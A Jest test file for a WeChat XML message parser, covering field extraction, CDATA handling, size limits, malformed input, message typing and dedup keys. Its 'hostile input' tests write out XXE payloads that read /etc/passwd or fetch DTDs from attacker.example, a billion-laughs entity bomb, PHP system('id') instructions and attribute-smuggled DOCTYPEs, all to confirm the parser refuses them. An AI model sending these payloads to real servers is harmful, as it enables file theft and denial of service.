import { jest } from '@jest/globals';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import {
  dedupKeyOf,
  parseWechatXml,
  toWechatMessage,
  WechatXmlError,
  type WechatFields,
  type WechatXmlFailure,
} from '../../../lambdas/domain/wechat-xml';

const head = (msgType: string, createTime = '1348831860') =>
  `<ToUserName><![CDATA[gh_toUser]]></ToUserName><FromUserName><![CDATA[oFromUser]]></FromUserName><CreateTime>${createTime}</CreateTime><MsgType><![CDATA[${msgType}]]></MsgType>`;
const doc = (msgType: string, rest: string) => `<xml>${head(msgType)}${rest}</xml>`;
const common = { ToUserName: 'gh_toUser', FromUserName: 'oFromUser', CreateTime: 1348831860 };

function failure(run: () => unknown): WechatXmlError {
  try {
    run();
  } catch (err) {
    expect(err).toBeInstanceOf(WechatXmlError);
    return err as WechatXmlError;
  }
  throw new Error('expected a WechatXmlError, nothing was thrown');
}

function expectFailure(run: () => unknown, reason: WechatXmlFailure): WechatXmlError {
  const err = failure(run);
  expect(err.reason).toBe(reason);
  return err;
}

// Spies on the library the module uses: hostile input must be refused before either runs.
let validate: jest.SpiedFunction<typeof XMLValidator.validate>;
let parse: jest.SpiedFunction<XMLParser['parse']>;
beforeEach(() => {
  validate = jest.spyOn(XMLValidator, 'validate');
  parse = jest.spyOn(XMLParser.prototype, 'parse');
});
afterEach(() => jest.restoreAllMocks());

function expectRefusedBeforeParsing(text: string, reason: WechatXmlFailure, maxBytes?: number): WechatXmlError {
  validate.mockClear();
  parse.mockClear();
  const err = expectFailure(() => parseWechatXml(text, maxBytes), reason);
  // Call counts, not toHaveBeenCalled: a failure would print the (10 MB) argument.
  expect(validate.mock.calls.length).toBe(0);
  expect(parse.mock.calls.length).toBe(0);
  return err;
}

describe('parseWechatXml: fields', () => {
  it('the official sample (newlines between elements): every value a string, a 64-bit MsgId intact', () => {
    const fields = parseWechatXml(
      '<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n<FromUserName><![CDATA[mycreate]]></FromUserName>\n<CreateTime>1409659813</CreateTime>\n<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[hello]]></Content>\n<MsgId>4561255354251345929</MsgId>\n<AgentID>218</AgentID>\n</xml>',
    );
    expect(fields).toEqual({
      ToUserName: 'wx5823bf96d3bd56c7',
      FromUserName: 'mycreate',
      CreateTime: '1409659813',
      MsgType: 'text',
      Content: 'hello',
      MsgId: '4561255354251345929',
      AgentID: '218',
    });
    expect(parse).toHaveBeenCalledTimes(1);
  });

  it('keeps CDATA content byte for byte (spaces, newlines, markup-like text) and trims text outside CDATA', () => {
    const fields = parseWechatXml(doc('text', '<Content><![CDATA[  two  spaces \n<b>&amp; <?php ?> <!DOCTYPE html>  ]]></Content><MsgId>\n  42  \n</MsgId>'));
    expect(fields.Content).toBe('  two  spaces \n<b>&amp; <?php ?> <!DOCTYPE html>  ');
    expect(fields.MsgId).toBe('42');
    expect(parseWechatXml('<xml><C><![CDATA[   ]]></C></xml>').C).toBe('   ');
  });

  it('joins a CDATA section split around "]]>"', () => {
    expect(parseWechatXml('<xml><Content><![CDATA[a]]]]><![CDATA[>b]]></Content></xml>').Content).toBe('a]]>b');
  });

  it('does not decode entities (values as sent)', () => {
    expect(parseWechatXml('<xml><Label>A &amp; B &#60; &lol;</Label></xml>')).toEqual({ Label: 'A &amp; B &#60; &lol;' });
  });

  it('accepts a leading XML declaration (and a BOM before it), quotes of either kind in it', () => {
    expect(parseWechatXml('<?xml version="1.0" encoding="UTF-8"?>\n<xml><A>1</A></xml>')).toEqual({ A: '1' });
    expect(parseWechatXml('\uFEFF<?xml version="1.0"?><xml><A>1</A></xml>')).toEqual({ A: '1' });
    expect(parseWechatXml(`<?xml version='1.0' encoding="UTF-8" standalone='yes' ?><xml><A>1</A></xml>`)).toEqual({ A: '1' });
  });

  it('CDATA content is data: declarations, PIs, comments and quotes in it are text, not refused', () => {
    const data = `<!DOCTYPE html> <!ENTITY x "y"> <?php echo 1; ?> <!-- c --> a="b" '<![CDATA[ <xml a=">`;
    expect(parseWechatXml(doc('text', `<Content><![CDATA[${data}]]></Content><MsgId>1</MsgId>`)).Content).toBe(data);
    expect(parseWechatXml('<xml ><A\n>1</A ><E /><F/></xml>')).toEqual({ A: '1', E: '', F: '' });
  });

  it('keeps nested elements as nested objects; <item> is always an array', () => {
    const one = parseWechatXml(
      doc('event', '<Event><![CDATA[pic_sysphoto]]></Event><EventKey><![CDATA[6]]></EventKey><SendPicsInfo><Count>1</Count><PicList><item><PicMd5Sum><![CDATA[1b5f7c23b5bf75682a53e7b6d163e185]]></PicMd5Sum></item></PicList></SendPicsInfo>'),
    );
    expect(one.SendPicsInfo).toEqual({ Count: '1', PicList: { item: [{ PicMd5Sum: '1b5f7c23b5bf75682a53e7b6d163e185' }] } });
    const two = parseWechatXml(doc('event', '<SendPicsInfo><Count>2</Count><PicList><item><PicMd5Sum>a</PicMd5Sum></item><item><PicMd5Sum>b</PicMd5Sum></item></PicList></SendPicsInfo>'));
    expect(two.SendPicsInfo).toEqual({ Count: '2', PicList: { item: [{ PicMd5Sum: 'a' }, { PicMd5Sum: 'b' }] } });
    const scan = parseWechatXml(doc('event', '<Event><![CDATA[scancode_push]]></Event><EventKey><![CDATA[6]]></EventKey><ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType><ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo>'));
    expect(scan.ScanCodeInfo).toEqual({ ScanType: 'qrcode', ScanResult: '1' });
    // Survives a JSON round trip unchanged (it goes into a frame as is).
    expect(JSON.parse(JSON.stringify(scan))).toEqual(scan);
  });

  it('repeated elements become arrays; empty elements are empty strings', () => {
    expect(parseWechatXml('<xml><A>1</A><A>2</A><E/><F></F></xml>')).toEqual({ A: ['1', '2'], E: '', F: '' });
  });

  it('returns prototype-less objects', () => {
    const fields = parseWechatXml('<xml><A>1</A><N><B>2</B></N></xml>');
    expect(Object.getPrototypeOf(fields)).toBeNull();
    expect(Object.getPrototypeOf(fields.N)).toBeNull();
    expect(fields.constructor).toBeUndefined();
  });

  it('refuses element names that are Object.prototype properties instead of renaming them', () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__']) {
      expectFailure(() => parseWechatXml(`<xml><${name}><polluted>1</polluted></${name}></xml>`), 'bad_xml');
      expectFailure(() => parseWechatXml(`<xml><N><${name}>x</${name}></N></xml>`), 'bad_xml');
    }
    expect(parseWechatXml('<xml><__toString>x</__toString></xml>')).toEqual({ __toString: 'x' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('<xml/> and <xml></xml> have no fields', () => {
    expect(parseWechatXml('<xml/>')).toEqual({});
    expect(parseWechatXml('<xml></xml>')).toEqual({});
  });

  it('the encrypted envelope parses like any other', () => {
    const outer = parseWechatXml('<xml>\n    <ToUserName><![CDATA[asdasdasd]]></ToUserName>\n    <Encrypt><![CDATA[rTNFcsut4LfGuAFKEUVVpwca+/==]]></Encrypt>\n</xml>\n');
    expect(outer).toEqual({ ToUserName: 'asdasdasd', Encrypt: 'rTNFcsut4LfGuAFKEUVVpwca+/==' });
  });
});

describe('parseWechatXml: hostile input is refused before parsing', () => {
  it('billion laughs', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n');
    const laughs = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n${entities}\n]>\n<xml><Content>&lol9;</Content></xml>`;
    const err = expectRefusedBeforeParsing(laughs, 'hostile_xml');
    expect(err.code).toBe('bad_request');
  });

  it('external entities (XXE), parameter entities, internal subsets without entities, any case', () => {
    for (const text of [
      '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
      '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>',
      '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>',
      '<!doctype xml><xml/>',
      '<xml><!ENTITY x "y"><A>1</A></xml>',
      '<xml><!ELEMENT A ANY><A>1</A></xml>',
      '<!DOCTYPE xml><xml><A>1</A></xml>',
    ]) {
      expectRefusedBeforeParsing(text, 'hostile_xml');
    }
  });

  it('processing instructions other than one leading declaration', () => {
    for (const text of [
      '<xml><?php system("id"); ?><A>1</A></xml>',
      '<?xml-stylesheet href="x.xsl"?><xml/>',
      '<?xml version="1.0"?><?xml version="1.0"?><xml/>',
      ' <?xml version="1.0"?><xml/>', // a declaration not at the very start
      '<?XML version="1.0"?><xml/>',
      '<?xml?><xml/>',
      '<xml><A>1</A></xml><?pi?>',
    ]) {
      expectRefusedBeforeParsing(text, 'hostile_xml');
    }
  });

  it('a 10 MB body: refused by the size cap alone', () => {
    const huge = `<xml><Content><![CDATA[${'a'.repeat(10 * 1024 * 1024)}]]></Content></xml>`;
    const err = expectRefusedBeforeParsing(huge, 'too_large');
    expect(err.code).toBe('too_large');
  });

  it('the cap is in UTF-8 bytes, inclusive, and configurable', () => {
    const fits = `<xml><A>${'a'.repeat(64 * 1024 - 18)}</A></xml>`;
    expect(Buffer.byteLength(fits)).toBe(64 * 1024);
    expect(parseWechatXml(fits).A).toHaveLength(64 * 1024 - 18);
    expectRefusedBeforeParsing(`${fits} `, 'too_large');
    // 30,000 CJK characters: 30,000 UTF-16 units but 90,000 bytes.
    expectRefusedBeforeParsing(`<xml><A>${'微'.repeat(30_000)}</A></xml>`, 'too_large');
    expect(parseWechatXml('<xml><A>微信</A></xml>', 24)).toEqual({ A: '微信' });
    expectRefusedBeforeParsing('<xml><A>微信</A></xml>', 'too_large', 23); // 18 + 2 x 3 bytes
  });

  it('an unterminated CDATA section is malformed, found by the scan', () => {
    expectRefusedBeforeParsing(`<xml><A><![CDATA[${'x'.repeat(1000)}`, 'bad_xml');
  });

  it('comments, terminated or not, even empty or holding nothing hostile', () => {
    for (const text of ['<xml><!-- --><A>1</A></xml>', '<xml><!----><A>1</A></xml>', '<xml><A>1</A></xml><!-- c -->', '<xml><!-- <A>1</A></xml>']) {
      expectRefusedBeforeParsing(text, 'hostile_xml');
    }
  });

  it('anything the parser would read as a CDATA-like section other than <![CDATA[ (it takes any "<![")', () => {
    expectRefusedBeforeParsing('<xml><A><![cdata[x]]></A></xml>', 'hostile_xml');
    expectRefusedBeforeParsing('<xml><A><![X[x]]></A></xml>', 'hostile_xml');
  });

  // The scan does not track quotes: tags may not have attributes, and a declaration, entity, comment
  // or PI anywhere outside CDATA is refused, attribute values included. Each case here either hides
  // hostile markup inside an attribute value or uses a quote to make a scan that skipped CDATA or
  // comments lose its place (the parser reads `<![CDATA[` in an attribute value as text).
  it.each([
    ['a DOCTYPE inside an attribute value', '<xml a="x<!DOCTYPE xml [<!ENTITY e SYSTEM \'file:///etc/passwd\'>]>"><A>1</A></xml>'],
    ['a PI inside an attribute value', `<xml a='<?php system("id"); ?>'><A>1</A></xml>`],
    ['an ENTITY after a quote', `<xml a='"'><!ENTITY e "boom"><A>&e;</A></xml>`],
    ['a DOCTYPE after an apostrophe in an attribute', `<xml a="'"><!DOCTYPE x [<!ENTITY e "boom">]><A>&e;</A></xml>`],
    ['a CDATA opener in an attribute value, the DOCTYPE after it in content', '<xml a="<![CDATA["><!DOCTYPE x [<!ENTITY e "boom">]><A>&e;</A><B>]]></B></xml>'],
    ['a PI after a CDATA opener in an attribute value', '<xml a="<![CDATA["><?pi x?><A>1</A><B>]]></B></xml>'],
    ['a comment opener in an attribute value, the DOCTYPE after it in content', '<xml a="<!--"><!DOCTYPE x><A>1</A><B>--></B></xml>'],
    ['a quoted ">" in an attribute, a CDATA opener after it', '<xml a=">  <![CDATA[" b="]]>"><!DOCTYPE x [<!ENTITY e "boom">]><A>&e;</A></xml>'],
    ['a stray quote in the XML declaration (the parser ends it at a later "?>")', '<?xml v="?><![CDATA["?><!DOCTYPE x [<!ENTITY e "boom">]><xml><A>&e;</A><B>]]></B></xml>'],
    ['a closing tag with a DOCTYPE after it', '<xml><A>1</A ="x"><!DOCTYPE x></xml>'],
  ])('%s', (_what, text) => {
    expectRefusedBeforeParsing(text, 'hostile_xml');
  });

  it('attributes with nothing hostile after them are refused too, as malformed (WeChat sends none)', () => {
    for (const text of ['<xml a="1"><Label>x</Label></xml>', '<xml><Label b=\'2\'>x</Label></xml>', '<xml><E a="1"/></xml>', '<xml><A b>1</A></xml>']) {
      expectRefusedBeforeParsing(text, 'bad_xml');
    }
  });

  /** Comment and PI nodes (but one leading declaration), and text an entity expanded into, outside CDATA sections (whose content is data). */
  function markupIn(value: unknown, path = ''): string[] {
    if (typeof value === 'string') return value.includes('PWNED') ? [`${path}: an expanded entity`] : [];
    if (value === null || typeof value !== 'object') return [];
    return Object.entries(value).flatMap(([key, child]) => {
      if (key === '#cdata') return [];
      if (key === '?xml' && path === '' && !Array.isArray(child)) return []; // the one leading declaration allowed
      if (key === '#comment' || key.startsWith('?')) return [`${path}/${key}`];
      return markupIn(child, `${path}/${key}`);
    });
  }

  it('sound against the parser: whatever the scan accepts, a permissive parser finds no DTD, entity, comment or PI in', () => {
    // The same library with everything on: entities expanded, comments and PIs kept as nodes.
    const permissive = new XMLParser({ processEntities: true, ignoreAttributes: false, ignoreDeclaration: false, ignorePiTags: false, commentPropName: '#comment', cdataPropName: '#cdata' });
    const doctype = '<!DOCTYPE x [<!ENTITY e "PWNED">]>';
    const tricky = ['<![CDATA[', ']]>', '<!--', '-->', '"', "'", '>', '?>', doctype, '<?pi x?>', '&e;', 't'];
    const prefixes = ['', '<?xml version="1.0"?>', '<?xml v="', "<?xml v='"];
    let seed = 42; // mulberry32: a fixed sequence, so a failure reproduces
    const random = (n: number) => {
      let t = (seed = (seed + 0x6d2b79f5) | 0);
      t = Math.imul(t ^ (t >>> 15), t | 1);
      t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
      return Math.floor((((t ^ (t >>> 14)) >>> 0) / 4294967296) * n);
    };
    const pick = <T,>(items: readonly T[]): T => items[random(items.length)]!;
    // Elements (some with a quoted attribute holding a tricky string), CDATA sections and comments
    // holding one, declarations, PIs and tricky strings loose in content.
    const content = (depth: number): string =>
      Array.from({ length: 1 + random(4) }, () => {
        switch (random(depth > 2 ? 6 : 8)) {
          case 0:
            return pick(['<A>t</A>', '<A>&e;</A>', '<C/>']);
          case 1:
            return pick([doctype, '<?pi x?>']);
          case 2:
            return `<![CDATA[${pick(tricky)}]]>`;
          case 3:
            return `<!--${pick(tricky)}-->`;
          case 4:
          case 5:
            return pick(tricky);
          default: {
            const quote = pick(['"', "'"]);
            return `<B${pick(['', ` a=${quote}${pick(tricky)}${quote}`])}>${content(depth + 1)}</B>`;
          }
        }
      }).join('');
    // (The scan before this fix accepted e.g. <xml><B a="<!--"><?pi x?><!--&e;--></B></xml>, which this finds.)
    let accepted = 0;
    for (let run = 0; run < 20_000; run++) {
      const text = `${pick(prefixes)}<xml>${content(0)}</xml>`;
      try {
        parseWechatXml(text);
      } catch {
        continue;
      }
      accepted++;
      expect({ text, markup: markupIn(permissive.parse(text)) }).toEqual({ text, markup: [] });
    }
    expect(accepted).toBeGreaterThan(200); // the generator does produce documents the scan accepts
  });
});

describe('parseWechatXml: malformed XML', () => {
  it.each([
    ['unclosed tag', '<xml><A>1</xml>'],
    ['unclosed root', '<xml><A>1</A>'],
    ['garbage', 'hello, world'],
    ['JSON', '{"MsgType":"text"}'],
    ['empty', ''],
    ['whitespace', ' \n\t '],
    ['two roots', '<xml><A>1</A></xml><xml><A>2</A></xml>'],
    ['text after the root', '<xml><A>1</A></xml> trailing'],
    ['crossed tags', '<xml><A><B>1</A></B></xml>'],
    ['bad tag name', '<xml><1A>1</1A></xml>'],
  ])('%s: bad_xml', (_what, text) => {
    const err = expectFailure(() => parseWechatXml(text), 'bad_xml');
    expect(err.code).toBe('bad_request');
  });

  it.each([
    ['another root', '<root><A>1</A></root>'],
    ['text root', '<xml>hello</xml>'],
    ['mixed content in the root', '<xml>hello<A>1</A></xml>'],
    ['mixed content below', '<xml><A>t<B>1</B></A></xml>'],
  ])('%s: bad_xml', (_what, text) => {
    expectFailure(() => parseWechatXml(text), 'bad_xml');
  });

  it('refuses deep nesting', () => {
    expectFailure(() => parseWechatXml(`<xml>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</xml>`), 'bad_xml');
    expect(parseWechatXml(`<xml>${'<a>'.repeat(10)}x${'</a>'.repeat(10)}</xml>`).a).toBeDefined();
  });

  it('error messages do not quote the input', () => {
    const secret = 'S3cretTagName';
    for (const text of [`<xml><${secret}>1</xml>`, `<xml><A>1</A></xml>${secret}`, `<${secret}/>`, `<xml>${secret}<A/></xml>`]) {
      expect(failure(() => parseWechatXml(text)).message).not.toContain(secret);
    }
  });
});

describe('toWechatMessage', () => {
  const typed = (msgType: string, rest: string) => toWechatMessage(parseWechatXml(doc(msgType, rest)));

  it('text', () => {
    expect(typed('text', '<Content><![CDATA[this is a test]]></Content><MsgId>1234567890123456</MsgId>')).toMatchObject({
      ...common,
      MsgType: 'text',
      Content: 'this is a test',
      MsgId: '1234567890123456',
    });
  });

  it('image', () => {
    expect(typed('image', '<PicUrl><![CDATA[http://mmbiz.qpic.cn/x]]></PicUrl><MediaId><![CDATA[media_id]]></MediaId><MsgId>1234567890123456</MsgId>')).toMatchObject({
      ...common,
      MsgType: 'image',
      PicUrl: 'http://mmbiz.qpic.cn/x',
      MediaId: 'media_id',
      MsgId: '1234567890123456',
    });
  });

  it('voice, with and without Recognition', () => {
    const plain = typed('voice', '<MediaId><![CDATA[media_id]]></MediaId><Format><![CDATA[amr]]></Format><MsgId>1234567890123456</MsgId>');
    expect(plain).toMatchObject({ ...common, MsgType: 'voice', MediaId: 'media_id', Format: 'amr', MsgId: '1234567890123456' });
    expect(plain).not.toHaveProperty('Recognition');
    const recognized = typed('voice', '<MediaId><![CDATA[m]]></MediaId><Format><![CDATA[speex]]></Format><Recognition><![CDATA[腾讯微信团队]]></Recognition><MsgId>1</MsgId>');
    expect(recognized).toMatchObject({ MsgType: 'voice', Format: 'speex', Recognition: '腾讯微信团队' });
  });

  it.each(['video', 'shortvideo'])('%s', (msgType) => {
    expect(typed(msgType, '<MediaId><![CDATA[media_id]]></MediaId><ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId><MsgId>1234567890123456</MsgId>')).toMatchObject({
      ...common,
      MsgType: msgType,
      MediaId: 'media_id',
      ThumbMediaId: 'thumb_media_id',
    });
  });

  it('location (coordinates kept as sent), with an empty label', () => {
    expect(typed('location', '<Location_X>23.134521</Location_X><Location_Y>113.358803</Location_Y><Scale>20</Scale><Label><![CDATA[]]></Label><MsgId>1234567890123456</MsgId>')).toMatchObject({
      ...common,
      MsgType: 'location',
      Location_X: '23.134521',
      Location_Y: '113.358803',
      Scale: '20',
      Label: '',
    });
  });

  it('link', () => {
    expect(typed('link', '<Title><![CDATA[公众平台官网链接]]></Title><Description><![CDATA[公众平台官网链接]]></Description><Url><![CDATA[url]]></Url><MsgId>1234567890123456</MsgId>')).toMatchObject({
      ...common,
      MsgType: 'link',
      Title: '公众平台官网链接',
      Description: '公众平台官网链接',
      Url: 'url',
    });
  });

  it('events: subscribe (bare and by QR scene), CLICK, LOCATION, scancode_push; the rest stays in fields', () => {
    const bare = typed('event', '<Event><![CDATA[subscribe]]></Event>');
    expect(bare).toMatchObject({ ...common, MsgType: 'event', Event: 'subscribe' });
    expect(bare).not.toHaveProperty('EventKey');
    expect(bare).not.toHaveProperty('Ticket');
    expect(typed('event', '<Event><![CDATA[subscribe]]></Event><EventKey><![CDATA[qrscene_123123]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket>')).toMatchObject({
      Event: 'subscribe',
      EventKey: 'qrscene_123123',
      Ticket: 'TICKET',
    });
    expect(typed('event', '<Event><![CDATA[CLICK]]></Event><EventKey><![CDATA[EVENTKEY]]></EventKey>')).toMatchObject({ Event: 'CLICK', EventKey: 'EVENTKEY' });
    const location = typed('event', '<Event><![CDATA[LOCATION]]></Event><Latitude>23.137466</Latitude><Longitude>113.352425</Longitude><Precision>119.385040</Precision>');
    expect(location.fields).toMatchObject({ Latitude: '23.137466', Longitude: '113.352425', Precision: '119.385040' });
    const scan = typed('event', '<Event><![CDATA[scancode_push]]></Event><EventKey><![CDATA[6]]></EventKey><ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType><ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo>');
    expect(scan.fields.ScanCodeInfo).toEqual({ ScanType: 'qrcode', ScanResult: '1' });
  });

  it('WeCom: AgentID when present', () => {
    expect(typed('text', '<Content>hi</Content><MsgId>1</MsgId><AgentID>1000002</AgentID>')).toMatchObject({ AgentID: '1000002' });
    expect(typed('text', '<Content>hi</Content><MsgId>1</MsgId>')).not.toHaveProperty('AgentID');
  });

  it('narrows by MsgType', () => {
    const message = typed('text', '<Content>hi</Content><MsgId>1</MsgId>');
    if (message.MsgType !== 'text') throw new Error('expected text');
    const content: string = message.Content; // compiles only if narrowed
    expect(content).toBe('hi');
  });

  it.each([
    ['ToUserName', (f: Record<string, unknown>) => delete f.ToUserName],
    ['FromUserName', (f: Record<string, unknown>) => delete f.FromUserName],
    ['CreateTime', (f: Record<string, unknown>) => delete f.CreateTime],
    ['MsgType', (f: Record<string, unknown>) => delete f.MsgType],
    ['Content', (f: Record<string, unknown>) => delete f.Content],
    ['MsgId', (f: Record<string, unknown>) => delete f.MsgId],
  ])('a text message without %s: bad_message naming it', (name, mutate) => {
    const fields: Record<string, unknown> = { ...parseWechatXml(doc('text', '<Content>hi</Content><MsgId>1</MsgId>')) };
    mutate(fields);
    const err = expectFailure(() => toWechatMessage(fields), 'bad_message');
    expect(err.message).toContain(name);
  });

  it.each([
    ['image', 'PicUrl', '<MediaId>m</MediaId><MsgId>1</MsgId>'],
    ['image', 'MediaId', '<PicUrl>u</PicUrl><MsgId>1</MsgId>'],
    ['voice', 'Format', '<MediaId>m</MediaId><MsgId>1</MsgId>'],
    ['video', 'ThumbMediaId', '<MediaId>m</MediaId><MsgId>1</MsgId>'],
    ['shortvideo', 'MediaId', '<ThumbMediaId>t</ThumbMediaId><MsgId>1</MsgId>'],
    ['location', 'Label', '<Location_X>1</Location_X><Location_Y>2</Location_Y><Scale>3</Scale><MsgId>1</MsgId>'],
    ['location', 'Location_Y', '<Location_X>1</Location_X><Scale>3</Scale><Label>l</Label><MsgId>1</MsgId>'],
    ['link', 'Url', '<Title>t</Title><Description>d</Description><MsgId>1</MsgId>'],
    ['event', 'Event', '<EventKey>k</EventKey>'],
  ])('%s without %s: bad_message naming it', (msgType, name, rest) => {
    const err = expectFailure(() => toWechatMessage(parseWechatXml(doc(msgType, rest))), 'bad_message');
    expect(err.message).toContain(name);
  });

  it('refuses non-text values, empty identifiers and a CreateTime that is not unix seconds', () => {
    expect(expectFailure(() => typed('text', '<Content><b>x</b></Content><MsgId>1</MsgId>'), 'bad_message').message).toContain('Content');
    expect(expectFailure(() => typed('text', '<Content>x</Content><MsgId>1</MsgId><MsgId>2</MsgId>'), 'bad_message').message).toContain('MsgId');
    expect(expectFailure(() => typed('event', '<Event></Event>'), 'bad_message').message).toContain('Event');
    for (const createTime of ['', 'soon', '-1', '1.5', '1e9', '12345678901234']) {
      const fields = parseWechatXml(`<xml>${head('text', createTime)}<Content>x</Content><MsgId>1</MsgId></xml>`);
      expect(expectFailure(() => toWechatMessage(fields), 'bad_message').message).toContain('CreateTime');
    }
  });

  it('an unmodelled MsgType is unsupported_message, not bad_message', () => {
    const err = expectFailure(() => typed('file', '<Title>a.pdf</Title>'), 'unsupported_message');
    expect(err.code).toBe('bad_request');
  });

  it('keeps every parsed field in `fields`', () => {
    const fields = parseWechatXml(doc('text', '<Content>hi</Content><MsgId>1</MsgId><Extra>e</Extra>'));
    expect(toWechatMessage(fields).fields).toBe(fields);
  });
});

describe('dedupKeyOf', () => {
  const fieldsOf = (rest: string, createTime?: string) => parseWechatXml(`<xml>${head(rest.includes('<Event>') ? 'event' : 'text', createTime)}${rest}</xml>`);

  it('MsgId when present', () => {
    expect(dedupKeyOf(fieldsOf('<Content>hi</Content><MsgId>4561255354251345929</MsgId>'))).toBe('4561255354251345929');
  });

  it('FromUserName, CreateTime, Event and a hash of every field for events', () => {
    expect(dedupKeyOf(fieldsOf('<Event><![CDATA[subscribe]]></Event>'))).toMatch(/^oFromUser:1348831860:subscribe:[0-9a-f]{64}$/);
  });

  it('keeps distinct events of one user in one second apart (another EventKey), and uses MsgID of template events', () => {
    const click = (key: string) => dedupKeyOf(fieldsOf(`<Event><![CDATA[CLICK]]></Event><EventKey><![CDATA[${key}]]></EventKey>`));
    expect(click('BUY')).not.toBe(click('CANCEL_ORDER'));
    expect(click('BUY')).toBe(click('BUY'));
    expect(dedupKeyOf({ FromUserName: 'u', CreateTime: '1', Event: 'TEMPLATESENDJOBFINISH', MsgID: '1002' })).toBe('1002');
  });

  it('is the same for a retry and different for another event or second', () => {
    const event = '<Event><![CDATA[CLICK]]></Event><EventKey>k</EventKey>';
    expect(dedupKeyOf(fieldsOf(event))).toBe(dedupKeyOf(fieldsOf(event)));
    expect(dedupKeyOf(fieldsOf(event))).not.toBe(dedupKeyOf(fieldsOf('<Event><![CDATA[VIEW]]></Event>')));
    expect(dedupKeyOf(fieldsOf(event))).not.toBe(dedupKeyOf(fieldsOf(event, '1348831861')));
  });

  it('separates the parts so that different splits do not collide', () => {
    const a: WechatFields = { FromUserName: 'user1', CreateTime: '23', Event: 'x' };
    const b: WechatFields = { FromUserName: 'user', CreateTime: '123', Event: 'x' };
    expect(dedupKeyOf(a)).not.toBe(dedupKeyOf(b));
  });

  it('a message without MsgId or Event, or with an empty MsgId, still gets a stable key', () => {
    expect(dedupKeyOf({ FromUserName: 'u', CreateTime: '1' })).toBe(dedupKeyOf({ CreateTime: '1', FromUserName: 'u' }));
    expect(dedupKeyOf({ FromUserName: 'u', CreateTime: '1' })).toMatch(/^u:1::[0-9a-f]{64}$/);
    expect(dedupKeyOf({ FromUserName: 'u', CreateTime: '1', MsgId: '' })).toMatch(/^u:1::[0-9a-f]{64}$/);
  });

  it('accepts any record (e.g. fields typed as unknown by a caller)', () => {
    const fields: Record<string, unknown> = { MsgId: '7' };
    expect(dedupKeyOf(fields)).toBe('7');
  });

  it('without MsgId, FromUserName and CreateTime are required', () => {
    expect(expectFailure(() => dedupKeyOf({ CreateTime: '1', Event: 'subscribe' }), 'bad_message').message).toContain('FromUserName');
    expect(expectFailure(() => dedupKeyOf({ FromUserName: 'u', Event: 'subscribe' }), 'bad_message').message).toContain('CreateTime');
    expect(expectFailure(() => dedupKeyOf({ FromUserName: 'u', CreateTime: '1', MsgId: ['1', '2'] }), 'bad_message').message).toContain('MsgId');
  });
});
